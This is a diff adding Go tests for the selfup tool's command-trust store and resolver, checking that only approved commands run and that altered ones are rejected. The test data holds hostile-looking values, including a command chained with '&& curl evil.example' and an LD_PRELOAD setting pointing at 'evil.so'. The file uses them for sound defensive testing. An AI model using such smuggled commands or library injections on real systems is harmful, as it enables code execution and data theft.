@@ -0,0 +1,87 @@
+package trust
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/kachick/selfup/internal/runner"
+)
+
+func TestStore(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "selfup", "trusted.json")
+	store, err := Load(path)
+	if err != nil {
+		t.Fatalf("unexpected error happened: %v", err)
+	}
+
+	def := runner.Definition{Extract: "\\d+", Command: []string{"dprint", "--version"}, Nth: 2}
+	if store.IsTrusted(def) {
+		t.Fatalf("should not be trusted before approved")
+	}
+	if !store.Approve(def, "lint.yml:17") {
+		t.Errorf("should be approved as a new command")
+	}
+	if store.Approve(def, "lint.yml:17") {
+		t.Errorf("should not be approved twice")
+	}
+	err = store.Save(path)
+	if err != nil {
+		t.Fatalf("unexpected error happened: %v", err)
+	}
+
+	loaded, err := Load(path)
+	if err != nil {
+		t.Fatalf("unexpected error happened: %v", err)
+	}
+	if !loaded.IsTrusted(def) {
+		t.Errorf("should be trusted after approved")
+	}
+	if !loaded.IsTrusted(runner.Definition{Extract: "[0-9.]+", Command: []string{"dprint", "--version"}, ID: "dprint"}) {
+		t.Errorf("only the executing parts should be compared")
+	}
+
+	changed := []runner.Definition{
+		{Command: []string{"dprint", "--version", "&&", "curl", "evil.example"}},
+		{Command: []string{"dprint", "--version"}, Cwd: "/"},
+		{Command: []string{"dprint", "--version"}, Env: &runner.Env{Set: map[string]string{"LD_PRELOAD": "evil.so"}}},
+	}
+	for _, c := range changed {
+		if loaded.IsTrusted(c) {
+			t.Errorf("changed command should not be trusted: %v", c)
+		}
+	}
+}
+
+func TestResolver(t *testing.T) {
+	store, err := Load(filepath.Join(t.TempDir(), "trusted.json"))
+	if err != nil {
+		t.Fatalf("unexpected error happened: %v", err)
+	}
+	executed := 0
+	resolver := Resolver{
+		Next: runner.CommandResolver{Executor: runner.ExecutorFunc(func(cmd runner.Command) ([]byte, error) {
+			executed++
+			return []byte("0.40.2\n"), nil
+		})},
+		Store: store,
+	}
+
+	def := runner.Definition{Command: []string{"dprint", "--version"}}
+	_, err = resolver.Resolve(def, runner.Command{Argv: def.Command})
+	if err == nil || !strings.Contains(err.Error(), "is not trusted") {
+		t.Errorf("untrusted command should be rejected: %v", err)
+	}
+	if executed != 0 {
+		t.Errorf("untrusted command should not be executed")
+	}
+
+	store.Approve(def, "lint.yml:17")
+	value, err := resolver.Resolve(def, runner.Command{Argv: def.Command})
+	if err != nil {
+		t.Fatalf("unexpected error happened: %v", err)
+	}
+	if value != "0.40.2" || executed != 1 {
+		t.Errorf("trusted command should be executed: %s, %d", value, executed)
+	}
+}